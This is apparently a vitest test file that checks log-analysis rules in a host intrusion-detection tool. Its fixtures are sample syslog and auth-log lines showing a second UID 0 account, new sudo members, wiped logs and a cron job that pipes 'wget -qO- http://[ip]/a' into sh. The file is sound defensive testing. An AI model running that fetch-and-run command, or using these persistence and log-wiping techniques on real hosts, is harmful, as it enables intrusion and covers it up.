import { describe, expect, it } from 'vitest';
import { logRules } from '../../../../src/core/hosts/rules/logs.ts';
import { foundIn, unshown } from '../../../support/host-rules.ts';
import type { Firing } from '../../../support/host-rules.ts';
import { probedAt } from '../../../support/probe-text.ts';

const fires: readonly Firing[] = [
  [
    'a second root in the log',
    'suspicious',
    'second-root-made',
    'auth-log',
    [
      'line May 19 03:12:44 helium useradd[9]: new user: name=toor, UID=0, GID=0, home=/home/toor, shell=/bin/sh, from=none',
    ],
  ],
  [
    'a new account that can log in',
    'suspicious',
    'account-made',
    'auth-log',
    [
      'line May 19 03:12:44 helium useradd[9]: new user: name=support, UID=1005, GID=1005, home=/home/support, shell=/bin/bash, from=none',
    ],
  ],
  [
    'a new member of sudo',
    'suspicious',
    'account-in-admin-group',
    'auth-log',
    ["line May 19 03:12:44 helium usermod[9]: add 'support' to group 'sudo'"],
  ],
  [
    'a changed password',
    'notice',
    'password-changed',
    'auth-log',
    ['line May 19 03:12:44 helium passwd[9]: pam_unix(passwd:chauthtok): password changed for root'],
  ],
  [
    'a changed crontab',
    'notice',
    'crontab-changed',
    'syslog',
    ['line May 19 03:12:44 helium crontab[9]: (root) REPLACE (root)'],
  ],
  [
    'a cron job that loads a shell script',
    'suspicious',
    'cron-runs-bad-command',
    'syslog',
    ['line May 19 03:12:44 helium CRON[9]: (root) CMD (wget -qO- http://[ip]/a | sh)'],
  ],
  [
    'a cron job in /tmp',
    'suspicious',
    'cron-runs-bad-command',
    'syslog',
    ['line May 19 03:12:44 helium CRON[9]: (www-data) CMD (/tmp/.x/update >/dev/null 2>&1)'],
  ],
  [
    'somebody who tried sudo',
    'suspicious',
    'not-in-sudoers',
    'auth-log',
    ['line May 19 03:12:44 helium sudo[9]:  www-data : user NOT in sudoers ; PWD=/ ; USER=root ; COMMAND=/bin/sh'],
  ],
  [
    'a stranger who became root',
    'notice',
    'became-root',
    'auth-log',
    ['line May 19 03:12:44 helium su[9]: (to root) support on pts/1'],
  ],
  [
    'a card that listens to all',
    'notice',
    'listens-to-all-traffic',
    'syslog',
    ['line May 19 03:12:44 helium kernel: device eth0 entered promiscuous mode'],
  ],
  [
    'a foreign module',
    'notice',
    'foreign-kernel-module',
    'syslog',
    ['line May 19 03:12:44 helium kernel: [12.1] hide: loading out-of-tree module taints kernel.'],
  ],
  [
    'an emptied auth.log',
    'suspicious',
    'log-emptied',
    'auth-log',
    [`file /var/log/auth.log 0 ${probedAt / 1000 - 9e6} ${probedAt / 1000 - 7_200} no`],
  ],
  [
    'an auth.log of which the beginning is gone',
    'suspicious',
    'log-emptied',
    'auth-log',
    [`file /var/log/auth.log 900 ${probedAt / 1000 - 9e6} ${probedAt / 1000 - 60} no`, 'began May_20_03:00:00'],
  ],
  [
    'an emptied auth.log that was rotated a week ago',
    'suspicious',
    'log-emptied',
    'auth-log',
    [
      `file /var/log/auth.log 0 ${probedAt / 1000 - 7 * 86_400} ${probedAt / 1000 - 7_200} ${probedAt / 1000 - 14 * 86_400}`,
    ],
  ],
  [
    'a rotated auth.log of which the beginning is gone',
    'suspicious',
    'log-emptied',
    'auth-log',
    [
      `file /var/log/auth.log 900 ${probedAt / 1000 - 7 * 86_400} ${probedAt / 1000 - 60} ${probedAt / 1000 - 14 * 86_400}`,
      'began 2026-05-19T03:00:00+00:00',
    ],
  ],
  [
    'an emptied register of logins',
    'suspicious',
    'log-emptied',
    'logins',
    [`file /var/log/wtmp 0 ${probedAt / 1000 - 9e6} ${probedAt / 1000 - 7_200} no`],
  ],
];

describe('the rules for logs', () => {
  it.each(fires)('find %s', (...[, severity, rule, part, rows]) => {
    expect(foundIn(part, rows)).toContain(`${severity} ${rule}`);
  });

  it('are all shown to fire', () => {
    expect(unshown(logRules, fires)).toEqual([]);
  });

  it('know a log that begins in the old year from one that was emptied', () => {
    const now = Date.UTC(2026, 0, 2, 12) / 1000;
    const facts = { now: String(now), boot: String(now - 90 * 86_400), zone: '+0000' };
    const born = Date.UTC(2025, 11, 28, 6) / 1000;
    const file = `file /var/log/auth.log 900 ${born} ${now - 60} ${born - 7 * 86_400}`;
    expect(foundIn('auth-log', [file, 'began Dec_28_06:25:01'], facts)).toEqual([]);
    expect(foundIn('auth-log', [file, 'began Jan__1_06:25:01'], facts)).toEqual(['suspicious log-emptied']);
  });

  it('take a rotation for what it is, by a new file or by emptying the old one', () => {
    const rotated = probedAt / 1000 - 3 * 86_400;
    const facts = (born: number, changed: number, older: number, began: string): readonly string[] =>
      foundIn('auth-log', [`file /var/log/auth.log 900 ${born} ${changed} ${older}`, `began ${began}`]);
    const began = new Date((rotated + 300) * 1000).toISOString().replace('Z', '+00:00');
    expect(facts(rotated, probedAt / 1000, rotated - 604_800, began)).toEqual([]);
    expect(facts(rotated - 9e6, probedAt / 1000, rotated, began)).toEqual([]);
    const empty = `file /var/log/auth.log 0 ${rotated - 9e6} ${rotated + 2} ${rotated}`;
    expect(foundIn('auth-log', [empty])).toEqual([]);
  });
});
